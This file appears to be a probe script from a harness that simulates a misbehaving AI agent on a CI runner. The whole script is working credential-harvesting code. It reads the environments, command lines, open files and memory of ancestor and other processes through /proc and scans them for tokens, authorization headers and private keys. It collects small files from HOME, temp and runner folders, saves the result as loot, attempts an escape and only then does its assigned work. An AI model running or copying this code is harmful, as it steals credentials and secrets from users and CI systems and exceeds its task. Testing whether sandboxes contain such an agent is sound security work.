// Family 1, secrets in reach: the agent's own environment, its parent's and every ancestor's
// /proc/<pid>/environ and memory (through /proc/<pid>/maps and /proc/<pid>/mem), every
// /proc/*/environ and cmdline it can read, its parent's open files, and every small file in
// the folders around its work tree. Then honest work.
import { closeSync, openSync, readFileSync, readlinkSync, readSync, statSync } from "node:fs";
import { dirname, join } from "node:path";
import { attempt, begin, config, honestWork, list, loot, say, tryEscape } from "./lib.mjs";

await begin("secrets");

const read = (path) => attempt(() => readFileSync(path, "latin1"));
const printable = (buffer) => buffer.toString("latin1").replace(/[^\x20-\x7e\n]/g, ".");
const NEEDLES = [
  "INPUT_",
  "TOKEN",
  "uthorization",
  "UTHORIZATION",
  "PRIVATE KEY",
  "x-access-token",
  "ghs_",
  "ACTIONS_",
  "SECRET",
];

/** Snippets of a process's readable memory around strings a secret sits near. */
function memorySnippets(pid) {
  const maps = read(`/proc/${pid}/maps`);
  if (maps.startsWith("failed")) return { maps };
  const snippets = new Set();
  const errors = [];
  let fd;
  try {
    fd = openSync(`/proc/${pid}/mem`, "r");
  } catch (error) {
    return { maps: maps.slice(0, 2000), open: String(error) };
  }
  const started = Date.now();
  let total = 0;
  for (const line of maps.split("\n")) {
    const match = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
    if (!match || line.includes("[vvar]") || line.includes("[vsyscall]")) continue;
    const start = Number.parseInt(match[1], 16);
    const length = Number.parseInt(match[2], 16) - start;
    if (length > 256 * 1024 * 1024 || total > 1024 * 1024 * 1024 || Date.now() - started > 8000)
      continue;
    for (let offset = 0; offset < length; offset += 4 * 1024 * 1024) {
      const size = Math.min(4 * 1024 * 1024, length - offset);
      const buffer = Buffer.alloc(size);
      try {
        const got = readSync(fd, buffer, 0, size, start + offset);
        total += got;
        const text = buffer.subarray(0, got).toString("latin1");
        for (const needle of NEEDLES) {
          let at = text.indexOf(needle);
          while (at >= 0 && snippets.size < 3000) {
            snippets.add(printable(buffer.subarray(Math.max(0, at - 200), at + 300)));
            at = text.indexOf(needle, at + needle.length);
          }
        }
      } catch (error) {
        errors.push(`${line.slice(0, 40)}: ${error.code}`);
        break;
      }
    }
  }
  closeSync(fd);
  return { bytesRead: total, snippets: [...snippets], errors: errors.slice(0, 50) };
}

/** The chain of parents whose environment the agent can read (the runner user's processes). */
function ancestors() {
  const chain = [];
  let pid = process.ppid;
  while (pid > 0 && chain.length < 10 && !read(`/proc/${pid}/environ`).startsWith("failed")) {
    chain.push(pid);
    const next = /^PPid:\s+(\d+)/m.exec(read(`/proc/${pid}/status`));
    pid = next ? Number(next[1]) : 0;
  }
  return chain;
}

const found = { ppid: process.ppid, env: process.env, ancestors: {}, processes: {}, files: {} };
for (const pid of ancestors()) {
  found.ancestors[pid] = {
    cmdline: read(`/proc/${pid}/cmdline`),
    environ: read(`/proc/${pid}/environ`),
    fds: list(`/proc/${pid}/fd`).map((fd) => attempt(() => readlinkSync(`/proc/${pid}/fd/${fd}`))),
    memory: memorySnippets(pid),
  };
}
// Every process whose environment it can read (the runner user's): environment and command line.
for (const name of list("/proc")) {
  if (!/^\d+$/.test(name)) continue;
  const environ = read(`/proc/${name}/environ`);
  if (environ.startsWith("failed")) continue;
  found.processes[name] = { cmdline: read(`/proc/${name}/cmdline`), environ };
}

// Every small file in the folders around the work tree, in HOME, in the temp folders and (a
// guess at a runner's layout) the runner user's HOME and RUNNER_TEMP.
let budget = 8 * 1024 * 1024;
function collect(dir, depth) {
  if (depth < 0 || budget <= 0) return;
  for (const name of list(dir)) {
    const path = join(dir, name);
    if (path === process.cwd() || ["objects", "proc", "sys", "dev"].includes(name)) continue;
    const stat = attempt(() => statSync(path));
    if (typeof stat !== "object") continue;
    if (stat.isDirectory()) collect(path, depth - 1);
    else if (stat.isFile() && stat.size < 256 * 1024) {
      const content = read(path);
      budget -= content.length;
      found.files[path] = content;
    }
  }
}
const cwd = process.cwd();
const t = config.escape ? config.targets : {};
const around = [dirname(cwd), dirname(dirname(cwd)), process.env.HOME, process.env.TMPDIR];
for (const dir of new Set([...around, t.runnerHome, t.runnerTemp])) {
  if (dir && dir !== "/") collect(dir, 4);
}

await loot("secrets.json", found);
say(
  `read ${Object.keys(found.processes).length} processes, ${Object.keys(found.files).length} files`,
);
await tryEscape();
honestWork("secrets");
